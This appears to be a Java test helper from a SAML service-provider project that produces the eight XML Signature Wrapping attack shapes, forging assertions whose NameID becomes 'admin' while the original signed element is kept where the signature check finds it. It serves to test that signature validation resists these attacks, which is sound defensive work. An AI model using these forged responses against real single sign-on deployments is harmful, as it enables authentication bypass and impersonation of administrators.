package org.authmeter.signon.saml.sp;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import net.shibboleth.utilities.java.support.xml.SerializeSupport;
import org.authmeter.browser.failure.CodedFailure;
import org.authmeter.signon.saml.message.SamlXml;
import org.w3c.dom.Document;
import org.w3c.dom.Element;

/**
 * The eight shapes of signature wrapping ("On Breaking SAML", Somorovsky et al., USENIX Security
 * 2012), numbered as testers number them: what was signed stays where the signature finds it, and
 * another assertion takes its place.
 */
final class Wrapping {
  static final String EVIL = "admin";
  private static final String SAML = "urn:oasis:names:tc:SAML:2.0:assertion";
  private static final String PROTOCOL = "urn:oasis:names:tc:SAML:2.0:protocol";
  private static final String DSIG = "http://www.w3.org/2000/09/xmldsig#";

  private final Document document;
  private final Element response;
  private final Element assertion;

  private Wrapping(byte[] xml) throws CodedFailure {
    document = SamlXml.parse(xml, "test");
    response = document.getDocumentElement();
    assertion = (Element) response.getElementsByTagNameNS(SAML, "Assertion").item(0);
  }

  /** The seventh shape with one ID for both assertions: a reader may find either. */
  static byte[] sameId(byte[] xml) throws CodedFailure {
    String id = new Wrapping(xml).assertion.getAttribute("ID");
    return new String(of(7, xml), StandardCharsets.UTF_8)
        .replace("\"_evil\"", '"' + id + '"')
        .getBytes(StandardCharsets.UTF_8);
  }

  /**
   * @param shape 1 or 2 for a signed Response, 3 to 8 for a signed assertion
   */
  static byte[] of(int shape, byte[] xml) throws CodedFailure {
    Wrapping wrapping = new Wrapping(xml);
    switch (shape) {
      case 1 -> wrapping.signature(wrapping.response).appendChild(wrapping.originalResponse());
      case 2 -> {
        Element signature = wrapping.signature(wrapping.response);
        wrapping.response.insertBefore(wrapping.originalResponse(), signature);
      }
      case 3 -> wrapping.response.insertBefore(wrapping.evilCopy(), wrapping.assertion);
      case 4 -> {
        Element evil = wrapping.evilCopy();
        wrapping.response.replaceChild(evil, wrapping.assertion);
        evil.appendChild(wrapping.assertion);
      }
      case 5 -> wrapping.response.appendChild(wrapping.originalAssertion());
      case 6 -> {
        Element original = wrapping.originalAssertion();
        wrapping.signature(wrapping.assertion).appendChild(original);
      }
      case 7 -> {
        Element extensions = wrapping.document.createElementNS(PROTOCOL, "x:Extensions");
        wrapping.response.insertBefore(extensions, wrapping.response.getFirstChild());
        extensions.appendChild(wrapping.evilCopy());
      }
      default -> {
        Element object = wrapping.document.createElementNS(DSIG, "y:Object");
        Element original = wrapping.originalAssertion();
        wrapping.signature(wrapping.assertion).appendChild(object).appendChild(original);
      }
    }
    return wrapping.write();
  }

  /** Makes the Response evil; what it was, without signature. */
  private Element originalResponse() {
    Element original = (Element) response.cloneNode(true);
    original.removeChild(signature(original));
    response.setAttribute("ID", "_evil");
    assertion.setAttribute("ID", "_evil2");
    evil(assertion);
    return original;
  }

  /** Makes the assertion evil; what it was, without signature. */
  private Element originalAssertion() {
    Element original = (Element) assertion.cloneNode(true);
    original.removeChild(signature(original));
    assertion.setAttribute("ID", "_evil");
    evil(assertion);
    return original;
  }

  /** Another assertion, without signature; the signed one stays as it is. */
  private Element evilCopy() {
    Element copy = (Element) assertion.cloneNode(true);
    copy.removeChild(signature(copy));
    copy.setAttribute("ID", "_evil");
    evil(copy);
    return copy;
  }

  private static void evil(Element assertion) {
    assertion.getElementsByTagNameNS(SAML, "NameID").item(0).setTextContent(EVIL);
  }

  private Element signature(Element signed) {
    for (Element child = SamlXml.child(signed); child != null; child = SamlXml.next(child)) {
      if ("Signature".equals(child.getLocalName())) {
        return child;
      }
    }
    throw new IllegalStateException("not signed: " + signed.getLocalName());
  }

  private byte[] write() {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    SerializeSupport.writeNode(document, out);
    return out.toByteArray();
  }
}
